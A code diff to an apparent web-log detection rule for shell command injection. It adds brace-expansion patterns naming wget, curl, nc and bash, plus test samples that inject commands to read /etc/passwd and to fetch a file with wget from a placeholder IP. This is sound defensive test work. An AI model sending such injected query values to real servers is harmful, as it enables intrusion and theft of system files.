@@ -72,6 +72,8 @@ class CommandShellChain(PatternRule):
         r"|\$\{?ifs\b|(?:[;|`\n]|&&|\$\()\s*[a-z]{1,10}(?:''|\"\")[a-z]"
         r"|/\?{3}/[\w?]{0,10}\?"
         r"|(?P<frag4>;\s*\$[a-z_]\w*)\s*(?:$|[;|&`])"
+        rf"|\{{(?:{_STRONG_COMMANDS}|cat|wget|curl|nc|ncat|bash|sh|ls|chmod|perl|python),"
+        r"(?:/|[a-z]{2,8}://|-|\+x)"
     )
     gate = ";|`\n$&"
     must_match = (
@@ -93,6 +95,8 @@ class CommandShellChain(PatternRule):
         AccessSample(target="/diag?ip=x%26%20net%20view"),
         AccessSample(target="/diag?ip=%3BCMD%3D%24%27id%27%3B%24CMD"),
         AccessSample(target="/diag?ip=x%7Cusr/bin/id"),
+        AccessSample(target="/diag?ip=x;%7Bcat,/etc/passwd%7D"),
+        AccessSample(target="/diag?ip=%7Bwget,http://198.51.100.9/x%7D"),
     )
     must_not_match = (
         AccessSample(target="/shop;jsessionid=0AB12CD34?cat=shoes"),
@@ -106,6 +110,8 @@ class CommandShellChain(PatternRule):
         AccessSample(target="/search?q=a+%7C+b+%7C+c"),
         AccessSample(target="/search?q=price+%7C+%24100"),
         AccessSample(target="/shop;jsessionid=1?x=%24total"),
+        AccessSample(target="/api?fields={cat,dog}"),
+        AccessSample(target="/api?fields={id,name,ls,price}"),
     )
 
 
